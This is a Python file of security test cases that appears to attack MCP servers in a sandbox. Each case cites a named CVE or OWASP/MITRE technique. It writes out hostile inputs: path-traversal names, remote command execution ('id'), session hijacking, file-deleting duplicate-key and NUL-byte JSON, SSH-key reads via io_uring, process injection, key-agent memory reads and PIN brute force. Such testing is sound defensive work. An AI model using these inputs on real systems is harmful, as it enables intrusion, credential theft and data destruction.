# SPDX-License-Identifier: Apache-2.0
"""Attacks on borders: folders that a server is to keep to, callers that it is to know, JSON that two sides read differently, and
ways around whoever watches."""

import time

import ns
from kit import call, case, http, jwt, node, py, py1, raw

HERE = "/home/agent"
DOCS = f"{HERE}/Documents"
HELLO = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
    "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "agent-raw", "version": "1"}}}
READY = {"jsonrpc": "2.0", "method": "notifications/initialized"}


def post(url, message, **headers):
    return ["post", url, {k.replace("_", "-"): v for k, v in headers.items()}, message]


def ask(n, tool, **args):
    return {"jsonrpc": "2.0", "id": n, "method": "tools/call", "params": {"name": tool, "arguments": args}}


# --- roots ------------------------------------------------------------------------------------------------------

@case("root-traversal", ["root.escape"], py("fsroot.py", DOCS), roots=[f"file://{DOCS}"], steps=[
    ["list", "s"], call("read_document", name="../projects/app/README.md"), call("save_document", name="../../agent/escaped.txt", text="out")])
def _(w):
    """CWE-22 (Endor Labs on MCP servers): ../ out of the folder the server was given, to read and to write."""
    return "Bills customers" in w.text(1) and w.read(f"{HERE}/escaped.txt") == "out"


@case("root-symlink", ["root.escape"], node("fslink.mjs", DOCS), agent="node", roots=[f"file://{DOCS}"], files={
    f"{DOCS}/shared": ("link", "/var/tmp/outside")}, steps=[
    ["list", "s"], call("write_file", path=f"{DOCS}/shared", content="planted")])
def _(w):
    """CVE-2025-53109 (Cymulate, EscapeRoute): a link in the folder that leads out of it."""
    return w.read("/var/tmp/outside") == "planted"


@case("root-prefix", ["root.escape"], node("fslink.mjs", DOCS), agent="raw", roots=[f"file://{DOCS}"], files={
    f"{DOCS}-private/salaries.txt": "too much\n"}, steps=[["list", "s"], call("read_file", path=f"{DOCS}-private/salaries.txt")])
def _(w):
    """CVE-2025-53110 (Cymulate, EscapeRoute): a folder whose name begins like the allowed one."""
    return w.text(1) == "too much\n"


@case("root-declared", ["root.escape", "secret.read"], raw("fsclient.py"), agent="raw", roots=[f"file://{HERE}/projects/app/data"],
      steps=[
    ["list", "s"], call("index")])
def _(w):
    """MCP specification, Roots: asks for the client's roots and reads what lies around them."""
    return int(w.text(1).split()[0]) > len("currency,rate\nEUR,1\nUSD,1.09\n")


# --- callers ------------------------------------------------------------------------------------------------------

@case("auth-expired", ["auth.expired_accepted"], http("raw", "expired.py", 8106, headers={
    "authorization": f"Bearer {jwt(sub='mallory', iss='https://login.example', aud='payroll', exp=int(time.time()) - 86400)}"}), steps=[
    ["list", "s"], call("salary", employee="bob")])
def _(w):
    """OWASP MCP07: a token that ran out yesterday is answered."""
    return w.text(1) == "51,000"


@case("auth-none", ["auth.none"], http("py1", "open.py", 6277), steps=[], remote=[
    post("http://192.0.2.1:6277/mcp", HELLO), post("http://192.0.2.1:6277/mcp", READY, mcp_session_id="{{session}}"),
    post("http://192.0.2.1:6277/mcp", ask(2, "run", command="id"), mcp_session_id="{{session}}")])
def _(w):
    """NeighborJack (Backslash) and CVE-2025-49596 (Oligo): bound to every address, runs commands for another host without a word."""
    return "uid=1000" in w.text(2)


A, B = ({"authorization": f"Bearer {jwt(sub=who, iss='https://login.example', exp=int(time.time()) + 86400)}"} for who in ("alice", "mallory"))
INBOX = "http://127.0.0.1:8107/mcp"


@case("auth-session", ["auth.session_reused"], http("node", "session.mjs", 8107), agent="raw", steps=[
    post(INBOX, HELLO, **A), post(INBOX, READY, mcp_session_id="{{session}}", **A),
    post(INBOX, ask(2, "read_inbox"), mcp_session_id="{{session}}", **A),
    post(INBOX, ask(3, "read_inbox"), mcp_session_id="session-1000", **B)])
def _(w):
    """CVE-2025-6515, prompt hijacking (JFrog): another caller speaks under a guessed session id."""
    return "1 new message" in w.text(2) and "1 new message" in w.text(3)


STOLEN = {"authorization": f"Bearer {ns.token('bearer', 40, ns.ALNUM)}"}
INSPECTOR = "http://192.0.2.1:6278/mcp"


@case("auth-session-address", ["auth.session_reused"], http("py1", "open.py", 6278), steps=[], remote=[
    post(INSPECTOR, HELLO, **STOLEN), post(INSPECTOR, READY, mcp_session_id="{{session}}", **STOLEN),
    post(INSPECTOR, ask(2, "run", command="id"), mcp_session_id="{{session}}", **STOLEN),
    post(INSPECTOR, ask(3, "run", command="id -u"), mcp_session_id="{{session}}", **STOLEN | {"@from": ns.OTHER})])
def _(w):
    """MCP specification, "Session hijacking": a session, stolen with its token, goes on from another address."""
    return "uid=1000" in w.text(2) and "1000" in w.text(3)


ONE, TWO = ({"authorization": f"Bearer {ns.token(name, 40, ns.ALNUM)}"} for name in ("opaque-one", "opaque-two"))


@case("auth-session-turns", ["auth.session_reused"], http("node", "session.mjs", 8107), agent="raw", steps=[
    post(INBOX, HELLO, **ONE), post(INBOX, READY, mcp_session_id="{{session}}", **ONE),
    post(INBOX, ask(2, "read_inbox"), mcp_session_id="{{session}}", **ONE),
    post(INBOX, ask(3, "read_inbox"), mcp_session_id="session-1000", **TWO), ["sleep", 2.5],
    *(post(INBOX, ask(n, "read_inbox"), mcp_session_id="session-1000", **(TWO if n % 2 else ONE)) for n in range(4, 8))])
def _(w):
    """CVE-2025-6515 behind one gateway: two callers in turns under one session id, whose tokens say nothing to us."""
    return all("1 new message" in w.text(n) for n in (2, 3, 5, 6))


# --- two readings ---------------------------------------------------------------------------------------------------

@case("json-twice", ["json.ambiguous"], raw("twice.py"), agent="raw", steps=[["list", "s"], [
    "send", "s", '{"jsonrpc":"2.0","id":71,"method":"tools/call","params":{"name":"read_entry","name":"delete_entry","arguments":{"name":"contract.txt"}}}']])
def _(w):
    """Bishop Fox on JSON interoperability: two equal keys, of which a gateway reads the first."""
    return w.gone(f"{DOCS}/contract.txt")


@case("json-nul", ["json.ambiguous"], raw("twice.py"), agent="raw", steps=[["list", "s"], [
    "send", "s", '{"jsonrpc":"2.0","id":"a\\u0000b","method":"tools/call","params":{"name":"delete_entry",'
    '"arguments":{"name":"2026/plan.txt\\u0000.bak"}}}']])
def _(w):
    """Bishop Fox on JSON interoperability: a NUL in the id, and one in a name that ends it for one of the two."""
    return w.gone(f"{DOCS}/2026/plan.txt")


@case("json-answer", ["json.ambiguous"], node("ambiguous.mjs"), agent="raw", steps=[["list", "s"], call("balance")])
def _(w):
    """The same in answers: two ids, two results, and bytes that are no UTF-8 in a tool's name."""
    return w.status(0) == "ok" and "12,000" in w.text(1)


# --- around the watcher -----------------------------------------------------------------------------------------------

@case("evade-io-uring", ["evade.*", "secret.read"], raw("uring.py"), agent="raw", steps=[["list", "s"], call("poem")])
def _(w):
    """ARMO, Curing: a key is opened and read by io_uring alone."""
    return w.read("/tmp/.poem") == w.read(f"{HERE}/.ssh/id_rsa")


@case("evade-memfd", ["evade.*"], py("memfd.py"), agent="raw", steps=[["list", "s"], call("thumbnail", path="/tmp/a.png")])
def _(w):
    """MITRE ATT&CK T1620: a program from memory."""
    return w.root.exists("/tmp/.ran-from-memory")


@case("evade-ptrace", ["evade.*"], raw("inject.py"), agent="raw", steps=[["list", "s"], call("solve", how="ptraced")])
def _(w):
    """MITRE ATT&CK T1055.008: another process does it, changed by ptrace."""
    return w.root.exists("/tmp/.ptraced")


@case("evade-vm-writev", ["evade.*"], raw("inject.py"), agent="raw", steps=[["list", "s"], call("solve", how="written")])
def _(w):
    """MITRE ATT&CK T1055: another process does it, changed by process_vm_writev."""
    return w.root.exists("/tmp/.written")


@case("evade-vm-readv", ["evade.*", "effect.unnamed"], py1("reader.py"), agent="raw", user="root", beside=[
    "python3", "-c", "import time; k = bytearray(b'opensesame' * 200); time.sleep(99)",
    "keyagent"], steps=[["list", "s"], call("tasks")])
def _(w):
    """MITRE ATT&CK T1003.007: a key agent's memory, read with process_vm_readv."""
    return w.read("/tmp/.found") not in ("", "0")


@case("evade-swap", ["evade.*"], raw("swap.py"), agent="raw", files={f"{DOCS}/pages/{n:03}.txt": "Signed.\n" for n in range(100)},
      steps=[["list", "s"], call("albums")])
def _(w):
    """Guo and Zeng, "Phantom Attack": the path is changed by another one while the kernel reads it."""
    return w.gone(f"{DOCS}/pages/099.txt") and int(w.read("/tmp/.hidden")) > 0


# --- much ---------------------------------------------------------------------------------------------------------------

@case("rate-calls", ["rate.calls"], raw("lookups.py"), agent="raw",
      steps=[["list", "s"], ["many", "s", "get_person", {"id": 7}, 1500]])
def _(w):
    """OWASP API4, unrestricted consumption: a directory emptied one look-up at a time."""
    return w.text(1).startswith("1500 answers: Person")


@case("rate-failures", ["rate.failures"], raw("lookups.py"), agent="raw",
      steps=[["list", "s"], ["many", "s", "unlock", {"pin": "{{n}}"}, 300]])
def _(w):
    """MITRE ATT&CK T1110, brute force: three hundred guesses at a PIN."""
    return w.status(1) == "tool_error" and w.text(1).startswith("300 answers")


@case("args-unexpected", ["args.unexpected"], node("orders.mjs"), agent="raw",
      steps=[["list", "s"], call("place_order", item="coat", count=1, size="M"), call(
    "place_order", item="coat", count="many", size="XXL", price=0, isAdmin=True)])
def _(w):
    """OWASP API3, mass assignment: undeclared arguments that the server obeys, a wrong type, a value out of the enum."""
    return "at 0 EUR without approval" in w.text(2)


@case("args-extra", ["args.unexpected"], py1("comment.py"), steps=[
    ["list", "s"], call("get_company_data", data_type="hr", as_user="ceo", override_policy=True)])
def _(w):
    """OWASP, input validation: arguments that no schema names, which mcp 1.x takes without a word."""
    return w.status(1) == "ok"
